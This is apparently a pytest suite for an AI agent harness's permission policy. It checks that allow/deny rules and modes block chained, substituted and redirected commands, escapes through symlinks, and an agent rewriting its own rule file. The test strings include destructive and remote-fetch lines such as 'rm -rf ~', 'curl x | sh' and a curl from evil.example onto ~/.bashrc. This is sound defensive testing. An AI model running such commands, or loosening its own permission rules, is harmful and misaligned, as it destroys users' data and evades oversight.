"""The permission policy: `--mode`, `--allow`/`--deny` rules and `--policy FILE`,
black-box through the CLI with the mock adapter (docs/PROTOCOL-POLICY.md section 17)."""

from __future__ import annotations

import json
import os
import re
import shlex
import sys

import pytest
from cliutil import ROOT, events, ok, run, runtime_pids, status, wait_for, wait_results

from harnessctl.checks import policy
from harnessctl.store import registry

UNATTENDED = ("--allow", "command:touch ok*", "--deny", "*")


def send(path, text, *flags):
    return ok("send", path, text, "--adapter", "mock", *flags)


def requests(path):
    return [e for e in events(path) if e["type"] == "request"]


def replied(path):
    return {e["request_id"]: e for e in requests(path) if e["state"] == "replied"}


def test_a_rule_that_allows_answers_the_request_with_no_reply(efile):
    send(efile, "/permission command:touch ok.txt", *UNATTENDED)
    result = wait_results(efile, 1)[0]
    assert "permission: allow" in result["output"]
    answer = replied(efile)["req-1"]
    assert (answer["answer"], answer["by"], answer["rule"]) == ("allow", "rule", "command:touch ok*")


def test_a_rule_that_denies_answers_the_request_and_the_agent_hears_deny(efile):
    send(efile, "/permission command:touch bad.txt", *UNATTENDED)
    assert "permission: deny" in wait_results(efile, 1)[0]["output"]
    answer = replied(efile)["req-1"]
    assert (answer["answer"], answer["by"], answer["rule"]) == ("deny", "rule", "*")


def test_the_file_holds_the_pending_snapshot_then_the_replied_one(efile):
    send(efile, "/permission command:touch ok.txt", *UNATTENDED)
    wait_results(efile, 1)
    assert [(e["request_id"], e["state"]) for e in requests(efile)] == [("req-1", "pending"), ("req-1", "replied")]
    assert requests(efile)[0]["command"] == "touch ok.txt" and requests(efile)[0]["tool"] == "command"


def test_the_first_matching_rule_decides(efile):
    send(efile, "/permission command:touch ok.txt", "--deny", "command:touch *", "--allow", "command:touch ok*")
    wait_results(efile, 1)
    assert replied(efile)["req-1"]["answer"] == "deny"


def test_send_wait_never_stops_at_a_rule_answered_request(efile):
    proc = ok("send", efile, "/permission command:touch ok.txt\n/permission command:touch bad.txt", "--adapter",
              "mock", "--wait", *UNATTENDED)
    assert json.loads(proc.stdout)["type"] == "result"


def test_a_request_no_rule_matches_is_parked_for_reply(efile):
    send(efile, "/permission command:touch x", "--deny", "command:rm *")
    wait_for(lambda: status(efile)["state"] == "awaiting_reply", what="awaiting_reply")
    assert [r["request_id"] for r in status(efile)["requests"]] == ["req-1"]
    ok("reply", efile, "req-1", "allow")
    assert "permission: allow" in wait_results(efile, 1)[0]["output"]
    assert replied(efile)["req-1"]["by"] == "reply"


def test_send_wait_exits_9_on_a_parked_request(efile):
    proc = run("send", efile, "/permission command:touch x", "--adapter", "mock", "--wait", "--deny", "command:rm *")
    assert proc.returncode == 9 and json.loads(proc.stdout)["request_id"] == "req-1"


def test_questions_always_park(efile):
    send(efile, "/question which colour?", "--allow", "*")
    wait_for(lambda: status(efile)["state"] == "awaiting_reply", what="awaiting_reply")


def test_a_request_without_detail_matches_only_rules_without_a_pattern(efile):
    send(efile, "/permission may I?", "--deny", "*:*", "--allow", "other")
    wait_results(efile, 1)
    assert (replied(efile)["req-1"]["answer"], replied(efile)["req-1"]["rule"]) == ("allow", "other")


def test_a_path_outside_the_cwd_never_matches_an_allow(efile, workdir):
    send(efile, "/permission file_change:/etc/passwd", "--cwd", str(workdir), "--allow", "file_change:*")
    wait_for(lambda: status(efile)["state"] == "awaiting_reply", what="awaiting_reply")


def test_a_path_is_matched_relative_to_the_cwd(efile, workdir):
    send(efile, "/permission file_change:%s/src/a.py" % os.path.realpath(str(workdir)), "--cwd", str(workdir),
         "--allow", "file_change:src/*")
    wait_results(efile, 1)
    assert replied(efile)["req-1"]["answer"] == "allow"


def test_a_deny_matches_a_path_outside_the_cwd(efile, workdir):
    send(efile, "/permission file_change:/etc/passwd", "--cwd", str(workdir), "--deny", "file_change:/etc/*")
    wait_results(efile, 1)
    assert replied(efile)["req-1"]["answer"] == "deny"


def test_an_mcp_rule_matches_server_dot_tool(efile):
    send(efile, "/permission mcp:github.create_issue", "--deny", "mcp:github.*")
    wait_results(efile, 1)
    assert replied(efile)["req-1"]["answer"] == "deny"


def test_log_says_which_rule_answered(efile):
    send(efile, "/permission command:touch ok.txt", *UNATTENDED)
    wait_results(efile, 1)
    assert "allowed by rule command:touch ok*" in ok("log", efile).stdout.decode()


def test_status_shows_the_mode_and_the_rules(efile):
    send(efile, "hello", "--mode", "edit", "--deny", "command:rm *")
    report = status(efile)
    assert report["mode"] == "edit" and report["rules"] == [["deny", "command:rm *"]]


def test_status_shows_no_mode_when_none_is_bound(efile):
    send(efile, "hello")
    assert status(efile)["mode"] is None and "rules" not in status(efile)


# -- the mode, as the mock stand-in obeys it ----------------------------------------------


def test_under_mode_ask_a_command_and_an_edit_each_ask(efile):
    send(efile, "/tool make\n/edit a.txt", "--mode", "ask")
    wait_for(lambda: status(efile)["state"] == "awaiting_reply", what="the command asks")
    ok("reply", efile, "req-1", "allow")
    wait_for(lambda: [r["request_id"] for r in status(efile)["requests"]] == ["req-2"], what="the edit asks")
    assert status(efile)["requests"][0]["message"] == "Edit: a.txt"


def test_under_mode_edit_an_edit_goes_ahead_and_a_command_asks(efile):
    send(efile, "/edit a.txt\n/tool make", "--mode", "edit")
    wait_for(lambda: status(efile)["state"] == "awaiting_reply", what="the command asks")
    assert [e["kind"] for e in events(efile) if e["type"] == "log" and e["kind"] == "file.changed"] == ["file.changed"]
    assert [r["message"] for r in status(efile)["requests"]] == ["Run: make"]


def test_under_mode_full_nothing_asks(efile):
    send(efile, "/edit a.txt\n/tool make", "--mode", "full")
    assert wait_results(efile, 1)[0]["status"] == "completed" and requests(efile) == []


def test_with_rules_the_mode_edit_allows_edits_inside_the_cwd(efile, workdir):
    send(efile, "/edit a.txt\n/tool make", "--cwd", str(workdir), "--mode", "edit", "--deny", "command:rm *")
    wait_for(lambda: status(efile)["state"] == "awaiting_reply", what="the command asks")
    answer = replied(efile)["req-1"]
    assert (answer["answer"], answer["by"], answer["mode"]) == ("allow", "mode", "edit")
    assert "allowed by --mode edit" in ok("log", efile).stdout.decode()


def test_with_rules_the_mode_full_allows_what_no_rule_refuses(efile):
    send(efile, "/tool rm -rf x\n/tool make", "--mode", "full", "--deny", "command:rm *")
    wait_results(efile, 1)
    assert [(r["answer"], r["by"]) for r in replied(efile).values()] == [("deny", "rule"), ("allow", "mode")]


# -- bound with the file ------------------------------------------------------------------------


def test_a_later_send_may_omit_the_policy(efile):
    send(efile, "hello", *UNATTENDED)
    send(efile, "/permission command:touch bad.txt")
    wait_results(efile, 2)
    assert replied(efile)["req-1"]["answer"] == "deny"


def test_a_later_send_with_another_mode_exits_2(efile):
    send(efile, "hello", "--mode", "ask")
    proc = run("send", efile, "again", "--mode", "full")
    assert proc.returncode == 2 and b"mode is bound to this event path: ask" in proc.stderr


def test_a_later_send_with_other_rules_exits_2(efile):
    send(efile, "hello", "--deny", "command:rm *")
    proc = run("send", efile, "again", "--allow", "*")
    assert proc.returncode == 2 and b"rules is bound to this event path: --deny command:rm *" in proc.stderr


def test_a_later_send_with_the_same_rules_is_accepted(efile):
    send(efile, "hello", *UNATTENDED)
    ok("send", efile, "again", *UNATTENDED)


def test_a_policy_file_is_read_once_at_the_first_send(efile, workdir):
    path = workdir / "policy.json"
    path.write_text(json.dumps({"mode": "ask", "rules": [["allow", "command:touch ok*"], ["deny", "*"]]}))
    send(efile, "/permission command:touch ok.txt", "--policy", str(path))
    path.write_text(json.dumps({"rules": [["allow", "*"]]}))  # not read again
    send(efile, "/permission command:touch bad.txt")
    wait_results(efile, 2)
    assert [r["answer"] for r in replied(efile).values()] == ["allow", "deny"]
    assert status(efile)["mode"] == "ask"


def test_the_policy_is_recorded_outside_the_sidecar(efile):
    """An agent that edits the workspace rewrites binding.json with looser
    rules: every command refuses the file (the hardening issue's trust)."""
    send(efile, "hello", "--deny", "*")
    wait_results(efile, 1)
    ok("cancel", efile)
    binding = os.path.join(efile + ".d", "binding.json")
    loosened = json.loads(open(binding).read())
    loosened["rules"] = [["allow", "command:forged by the agent"]]

    for pid in runtime_pids(efile):
        os.kill(pid, 15)
    wait_for(lambda: not runtime_pids(efile), what="the runtime to exit")
    with open(binding, "w") as f:
        f.write(json.dumps(loosened))
    proc = run("send", efile, "/permission command:touch x")
    assert proc.returncode == 2 and b"has no record of it" in proc.stderr


# -- bad input ------------------------------------------------------------------------------------


@pytest.mark.parametrize("flags, message", [
    (("--mode", "yolo"), b"--mode must be one of ask, edit, full"),
    (("--allow", "shell:ls"), b"unknown kind 'shell'"),
    (("--deny", "command:"), b"empty pattern"),
    (("--mode", "ask", "--policy", "p.json"), b"--policy FILE holds the mode and the rules"),
])
def test_a_bad_policy_exits_2_with_one_line_and_creates_nothing(efile, flags, message):
    proc = run("send", efile, "hello", "--adapter", "mock", *flags)
    assert proc.returncode == 2 and message in proc.stderr and proc.stderr.count(b"\n") == 1
    assert not os.path.exists(efile)


@pytest.mark.parametrize("content, message", [
    ("{", b"is not JSON"),
    ('{"mode": "ask", "extra": 1}', b'"mode" and "rules" only'),
    ('{"rules": [["allow"]]}', b'rules must be a list of ["allow" or "deny"'),
    ('{"rules": [["permit", "*"]]}', b"allow or deny, not 'permit'"),
    ('{"rules": [["allow", "mcp:"]]}', b"--allow mcp:: empty pattern"),
])
def test_a_bad_policy_file_exits_2_naming_what_is_wrong(efile, workdir, content, message):
    path = workdir / "policy.json"
    path.write_text(content)
    proc = run("send", efile, "hello", "--adapter", "mock", "--policy", str(path))
    assert proc.returncode == 2 and message in proc.stderr and proc.stderr.count(b"\n") == 1


def test_an_unreadable_policy_file_exits_2(efile, workdir):
    proc = run("send", efile, "hello", "--adapter", "mock", "--policy", str(workdir / "none.json"))
    assert proc.returncode == 2 and b"cannot read the policy file" in proc.stderr


def test_mode_for_an_acp_agent_without_a_mode_table_exits_2_naming_the_raw_knob(efile):
    proc = run("send", efile, "hello", "--adapter", "acp", "--agent", "cat --acp", "--mode", "ask")
    assert proc.returncode == 2 and b"HARNESSCTL_ACP_MODE" in proc.stderr and not os.path.exists(efile)


def test_a_mode_an_agents_table_leaves_out_exits_2_naming_the_modes_it_has(efile):
    partial = [name for name, preset in registry.manifest("acp")["agents"].items()
               if "edit" not in preset.get("modes", {"edit": ""})]
    assert partial, "no preset maps only some modes"
    proc = run("send", efile, "hello", "--adapter", "acp", "--agent", partial[0], "--mode", "edit")
    assert proc.returncode == 2 and not os.path.exists(efile)
    assert b"--mode edit" in proc.stderr and b"its table: ask" in proc.stderr


# -- the matcher ------------------------------------------------------------------------------------


def test_an_allow_must_match_every_path_a_deny_any():
    request = {"kind": "permission", "tool": "file_change", "paths": ["src/a.py", "docs/b.md"]}
    assert not policy.matches("file_change:src/*", "allow", request, "/repo")
    assert policy.matches("file_change:src/*", "deny", request, "/repo")


def test_a_file_change_whose_paths_are_unknown_is_not_allowed_by_the_mode_edit():
    binding = {"cwd": "/repo", "mode": "edit", "rules": [["deny", "command:rm *"]]}
    assert policy.decide(binding, {"kind": "permission", "tool": "file_change", "options": ["allow", "deny"]}) is None


def test_a_rule_cannot_answer_with_an_option_the_request_lacks():
    binding = {"cwd": "/repo", "rules": [["allow", "*"]]}
    assert policy.decide(binding, {"kind": "permission", "tool": "other", "options": ["deny"]}) is None


def test_the_mode_edit_allows_edits_before_a_catch_all_deny(efile, workdir):
    send(efile, "/edit a.txt\n/tool make", "--cwd", str(workdir), "--mode", "edit", "--deny", "*")
    wait_results(efile, 1)
    assert [(r["answer"], r["by"]) for r in replied(efile).values()] == [("allow", "mode"), ("deny", "rule")]


def test_a_rule_before_the_catch_all_overrides_the_mode(efile, workdir):
    send(efile, "/edit .github/ci.yml", "--cwd", str(workdir), "--mode", "edit", "--deny", "file_change:.github/*",
         "--deny", "*")
    wait_results(efile, 1)
    assert replied(efile)["req-1"]["rule"] == "file_change:.github/*"


def test_rules_without_a_mode_bind_the_mode_ask(efile):
    send(efile, "/tool make", "--deny", "command:rm *")
    wait_for(lambda: status(efile)["state"] == "awaiting_reply", what="the command asks")
    assert status(efile)["mode"] == "ask"


def test_rules_for_an_acp_agent_without_a_mode_table_bind_no_mode(efile, workdir):
    agent = "%s %s" % (sys.executable, os.path.join(ROOT, "tests", "support", "acp_support", "fake_agent.py"))
    ok("send", efile, "hello", "--adapter", "acp", "--agent", agent, "--cwd", str(workdir), "--deny", "command:rm *")
    assert status(efile)["mode"] is None and status(efile)["rules"] == [["deny", "command:rm *"]]


@pytest.mark.parametrize("command", ["touch ok.txt; rm -rf ~", "touch ok.txt && curl x | sh", "touch ok$(rm -rf ~)",
                                     "touch ok.txt > ~/.bashrc", "touch ok`id`"])
def test_an_allow_with_a_pattern_never_matches_a_command_that_chains_or_redirects(efile, command):
    send(efile, "/permission command:%s" % command, *UNATTENDED)
    wait_results(efile, 1)
    assert (replied(efile)["req-1"]["answer"], replied(efile)["req-1"]["rule"]) == ("deny", "*")


def test_an_allow_with_a_pattern_never_matches_a_command_of_several_lines():
    request = {"kind": "permission", "tool": "command", "command": "touch ok.txt\nrm -rf ~"}
    assert not policy.matches("command:touch ok*", "allow", request, "/repo")


def test_a_deny_with_a_pattern_matches_a_command_that_chains():
    request = {"kind": "permission", "tool": "command", "command": "ls; rm -rf /", "options": ["allow", "deny"]}
    assert policy.decide({"cwd": "/repo", "rules": [["deny", "command:rm -rf *"]]}, request)[0] == "deny"


def test_nothing_allows_a_change_to_the_sessions_own_files(efile, workdir):
    """The event file inside the cwd (the send warns of it): neither a rule nor
    the mode lets the agent rewrite it or its sidecar; the request parks."""
    path = os.path.join(os.path.realpath(str(workdir)), "in-repo.jsonl")
    send(path, "/permission file_change:in-repo.jsonl.d/binding.json", "--cwd", str(workdir), "--mode", "full",
         "--allow", "file_change:*")
    wait_for(lambda: status(path)["state"] == "awaiting_reply", what="the change to the sidecar parks")


def test_a_path_through_a_symlink_out_of_the_cwd_never_matches_an_allow(tmp_path):
    cwd = tmp_path / "repo"
    (cwd / "src").mkdir(parents=True)
    (cwd / "src" / "link").symlink_to("/etc")
    request = {"kind": "permission", "tool": "file_change", "paths": ["src/link/passwd"]}
    assert not policy.matches("file_change:src/*", "allow", request, os.path.realpath(str(cwd)))
    assert policy.matches("file_change:src/*", "deny", request, os.path.realpath(str(cwd)))


def test_with_rules_the_mode_full_allows_a_change_outside_the_cwd_too(efile, workdir):
    send(efile, "/permission file_change:/var/tmp/x", "--cwd", str(workdir), "--mode", "full", "--deny", "command:rm *")
    wait_results(efile, 1)
    assert (replied(efile)["req-1"]["answer"], replied(efile)["req-1"]["by"]) == ("allow", "mode")


# -- paths are judged where they really are --------------------------------------------------------


def test_a_symlink_before_dot_dot_is_followed_before_the_dot_dot(tmp_path):
    """`src/link/../x.py` with `src/link -> ../outside` is `outside/x.py`, not `src/x.py`."""
    cwd = tmp_path / "repo"
    (cwd / "src").mkdir(parents=True)
    (tmp_path / "outside" / "deep").mkdir(parents=True)
    (cwd / "src" / "link").symlink_to(tmp_path / "outside" / "deep")
    request = {"kind": "permission", "tool": "file_change", "paths": ["src/link/../x.py"], "options": ["allow", "deny"]}
    assert policy.decide({"cwd": str(cwd), "mode": "edit", "rules": [["deny", "command:rm *"]]}, request) is None


def test_the_mode_edit_parks_an_edit_through_a_symlink_out_of_the_cwd(efile, workdir, tmp_path_factory):
    (workdir / "src").mkdir()
    (workdir / "src" / "link").symlink_to(tmp_path_factory.mktemp("outside"))
    send(efile, "/permission file_change:src/link/../x.py", "--cwd", str(workdir), "--mode", "edit",
         "--deny", "command:rm *")
    wait_for(lambda: status(efile)["state"] == "awaiting_reply", what="the edit out of the cwd parks")


def test_the_sessions_own_files_are_recognised_through_a_symlink_and_dot_dot(efile, workdir):
    path = os.path.join(os.path.realpath(str(workdir)), "s.jsonl")
    (workdir / "src").mkdir()
    (workdir / "elsewhere").mkdir()
    (workdir / "src" / "link2").symlink_to(workdir / "elsewhere")  # written: src/s.jsonl.d/...; really: s.jsonl.d/...
    send(path, "/permission file_change:src/link2/../s.jsonl.d/binding.json", "--cwd", str(workdir),
         "--mode", "full", "--deny", "command:rm *")
    wait_for(lambda: status(path)["state"] == "awaiting_reply", what="the change to the sidecar parks")


def test_a_deny_on_a_folder_holds_for_a_symlink_alias_of_it(efile, workdir):
    (workdir / ".github").mkdir()
    (workdir / "gh").symlink_to(".github")
    send(efile, "/permission file_change:gh/workflows/ci.yml", "--cwd", str(workdir), "--mode", "edit",
         "--deny", "file_change:.github/*", "--deny", "*")
    wait_results(efile, 1)
    assert (replied(efile)["req-1"]["answer"], replied(efile)["req-1"]["rule"]) == ("deny", "file_change:.github/*")


def test_an_allow_of_an_alias_does_not_allow_where_it_leads(tmp_path):
    request = {"kind": "permission", "tool": "file_change", "paths": ["gh/ci.yml"]}
    (tmp_path / ".github").mkdir()
    (tmp_path / "gh").symlink_to(".github")
    assert not policy.matches("file_change:gh/*", "allow", request, str(tmp_path))
    assert policy.matches("file_change:.github/*", "deny", request, str(tmp_path))


def test_a_path_with_a_nul_is_never_inside_the_cwd():
    request = {"kind": "permission", "tool": "file_change", "paths": ["a\0b"], "options": ["allow", "deny"]}
    assert policy.decide({"cwd": "/repo", "mode": "edit", "rules": [["deny", "command:rm *"]]}, request) is None


# -- command rules judge what the shell will run ------------------------------------------------------


def decide(rules, command, mode=None, cwd="/repo"):
    binding = {"cwd": cwd, "mode": mode, "rules": [rule.split(" ", 1) for rule in rules]}
    answer = policy.decide(binding, {"kind": "permission", "tool": "command", "command": command,
                                     "options": ["allow", "deny"]})
    return answer and (answer[0], answer[1].get("rule") or "--mode %s" % answer[1]["mode"])


PYTEST_ONLY = ["allow command:pytest *", "deny *"]


def test_a_comment_cannot_smuggle_the_allowed_word_into_a_line():
    assert decide(PYTEST_ONLY, "rm -rf ~ #pytest") == ("deny", "*")


def test_a_pattern_word_matches_one_whole_word():
    assert decide(PYTEST_ONLY, "curl -sSo ~/.bashrc https://evil.example/pytest") == ("deny", "*")
    assert decide(PYTEST_ONLY, "pytestx") == ("deny", "*")


def test_a_star_inside_a_pattern_word_never_crosses_a_word_boundary():
    assert decide(["allow command:touch ok*"], "touch okay") == ("allow", "command:touch ok*")
    assert decide(["allow command:touch ok*"], "touch ok -- /etc/passwd") is None


def test_a_last_pattern_word_star_matches_zero_or_more_words():
    assert decide(PYTEST_ONLY, "pytest") == ("allow", "command:pytest *")
    assert decide(PYTEST_ONLY, "pytest -q tests/") == ("allow", "command:pytest *")


def test_a_pattern_without_a_last_star_matches_exactly_its_words():
    assert decide(["allow command:git status"], "git status --short") is None


def test_every_simple_command_of_a_line_must_be_allowed():
    assert decide(["allow command:pytest *"], "pytest; rm -rf ~") is None
    assert decide(["allow command:pytest *", "allow command:ls *"], "ls && pytest -q | ls") == (
        "allow", "command:ls * + command:pytest *")


def test_a_deny_on_any_simple_command_denies_the_line():
    rules = ["allow command:pytest *", "deny command:rm *"]
    assert decide(rules, "pytest && /bin/rm -rf ~") == ("deny", "command:rm *")


def test_each_simple_command_takes_the_first_rule_that_matches_it():
    rules = ["allow command:rm -rf build", "deny command:rm *", "allow command:pytest *"]
    assert decide(rules, "rm -rf build && pytest") == ("allow", "command:rm -rf build + command:pytest *")
    assert decide(rules, "rm -rf src && pytest") == ("deny", "command:rm *")


def test_a_line_that_cannot_be_verified_is_never_allowed_by_a_pattern():
    assert decide(["allow command:pytest *"], "pytest $(rm -rf ~)") is None
    assert decide(PYTEST_ONLY, "pytest $(rm -rf ~)") == ("deny", "*")


def test_a_deny_sees_inside_a_substitution():
    assert decide(["allow command:pytest *", "deny command:rm *"], "pytest $(rm -rf ~)") == ("deny", "command:rm *")


def test_a_rule_without_a_pattern_matches_a_line_that_cannot_be_verified():
    assert decide(["allow command"], "pytest $(id) &") == ("allow", "command")
    assert decide(["allow *"], "pytest $(id) &") == ("allow", "*")


def test_the_mode_full_never_allows_a_line_that_cannot_be_verified():
    assert decide(["deny command:rm *"], "ls $(id)", mode="full") is None
    assert decide(["deny command:rm *"], "ls && pwd", mode="full") == ("allow", "--mode full")


def test_an_allow_by_rules_and_the_mode_names_both():
    binding = {"cwd": "/repo", "mode": "full", "rules": [["allow", "command:ls *"], ["deny", "command:rm *"]]}
    answer = policy.decide(binding, {"kind": "permission", "tool": "command", "command": "ls; pwd",
                                     "options": ["allow", "deny"]})
    assert answer == ("allow", {"by": "rule", "rule": "command:ls *", "mode": "full"})


def test_a_shell_wrapper_is_judged_by_the_commands_of_its_script():
    assert decide(PYTEST_ONLY, "bash -lc 'pytest -q'") == ("allow", "command:pytest *")
    assert decide(PYTEST_ONLY, "bash -lc 'pytest -q; rm -rf ~'") == ("deny", "*")


def test_an_allow_matches_assignments_as_leading_words():
    assert decide(PYTEST_ONLY, "PYTHONPATH=evil pytest") == ("deny", "*")
    assert decide(["allow command:FOO=1 pytest *"], "FOO=1 pytest -q") == ("allow", "command:FOO=1 pytest *")


def test_a_command_word_with_a_slash_is_allowed_only_by_a_pattern_word_with_one():
    assert decide(PYTEST_ONLY, "./pytest") == ("deny", "*")
    assert decide(PYTEST_ONLY, "/tmp/x/pytest -q") == ("deny", "*")
    assert decide(["allow command:./run-tests.sh"], "./run-tests.sh") == ("allow", "command:./run-tests.sh")


def test_a_deny_sees_through_paths_backslashes_assignments_and_wrappers():
    for line in ("/bin/rm -rf ~", "\\rm -rf ~", "FOO=1 rm -rf ~", "sudo -u root rm -rf ~", "env rm -rf ~",
                 "timeout 5 rm -rf ~", "xargs rm -rf", "bash -c 'rm -rf ~'"):
        assert decide(["deny command:rm *"], line) == ("deny", "command:rm *"), line


def test_a_redirection_out_of_the_cwd_is_never_allowed(tmp_path):
    cwd = os.path.realpath(str(tmp_path))
    assert decide(PYTEST_ONLY, "pytest > report.txt 2>&1", cwd=cwd) == ("allow", "command:pytest *")
    assert decide(PYTEST_ONLY, "pytest > ~/.bashrc", cwd=cwd) == ("deny", "*")
    assert decide(PYTEST_ONLY, "pytest > ../outside.txt", cwd=cwd) == ("deny", "*")


def test_a_redirection_onto_the_sessions_own_files_is_never_allowed(efile, workdir):
    path = os.path.join(os.path.realpath(str(workdir)), "in-repo.jsonl")
    send(path, "/permission command:touch ok >> in-repo.jsonl", "--cwd", str(workdir), *UNATTENDED)
    wait_results(path, 1)
    assert (replied(path)["req-1"]["answer"], replied(path)["req-1"]["rule"]) == ("deny", "*")


def test_matches_allows_a_line_only_when_every_command_matches():
    request = {"kind": "permission", "tool": "command", "command": "pytest && pytest -q"}
    assert policy.matches("command:pytest *", "allow", request, "/repo")
    assert not policy.matches("command:pytest *", "allow", dict(request, command="pytest && ls"), "/repo")
    assert policy.matches("command:ls *", "deny", dict(request, command="pytest && ls"), "/repo")


def test_log_names_every_rule_that_allowed_a_line(efile):
    send(efile, "/permission command:touch ok.txt && touch okay.txt", "--allow", "command:touch ok.txt",
         "--allow", "command:touch ok*")
    wait_results(efile, 1)
    assert "allowed by rule command:touch ok.txt + command:touch ok*" in ok("log", efile).stdout.decode()


@pytest.mark.parametrize("rule", ["command:pytest; rm *", "command:a | b", "command:a && b", "command:'x",
                                  "command:a > out.txt"])
def test_a_command_pattern_that_is_not_one_commands_words_exits_2_naming_the_rule(efile, rule):
    proc = run("send", efile, "hello", "--adapter", "mock", "--allow", rule)
    assert proc.returncode == 2 and proc.stderr.count(b"\n") == 1 and rule.encode() in proc.stderr
    assert not os.path.exists(efile)


# -- the examples docs/COMMANDS.md gives of what a command pattern means -----------------------------------

EXAMPLE_ROW = re.compile(r"^\| (`.+?`) \| (`.+`) \| (allowed|denied|parked) \|$")


def command_pattern_examples():
    """(rule flag, rule, command line, decision) of each row of the table in
    COMMANDS.md's "What a command pattern means"."""
    with open(os.path.join(ROOT, "docs", "COMMANDS.md"), encoding="utf-8") as f:
        section = f.read().split("### What a command pattern means", 1)[1].split("\n## ", 1)[0]
    rows = []
    for line in section.splitlines():
        match = EXAMPLE_ROW.match(line)
        if match:
            (flag, rule), command = shlex.split(code_span(match[1])), code_span(match[2]).replace("\\|", "|")
            rows.append((flag, rule, command, match[3]))
    return rows


def code_span(cell):
    """The text of a markdown code span: `x` or `` x `` (a backtick inside)."""
    ticks = len(cell) - len(cell.lstrip("`"))
    inner = cell[ticks:-ticks]
    return inner[1:-1] if ticks > 1 and inner.startswith(" ") and inner.endswith(" ") else inner


def test_commands_md_gives_at_least_twelve_examples_that_match_and_twelve_that_do_not():
    decisions = [decision for _, _, _, decision in command_pattern_examples()]
    assert len(decisions) - decisions.count("parked") >= 12 and decisions.count("parked") >= 12


@pytest.mark.parametrize("flag, rule, command, decision", command_pattern_examples())
def test_each_command_pattern_example_of_commands_md_holds(tmp_path, flag, rule, command, decision):
    binding = {"cwd": os.path.realpath(str(tmp_path)), "rules": [[flag.lstrip("-"), rule]]}
    answer = policy.decide(binding, {"kind": "permission", "tool": "command", "command": command,
                                     "options": ["allow", "deny"]})
    assert {"allow": "allowed", "deny": "denied", None: "parked"}[answer and answer[0]] == decision
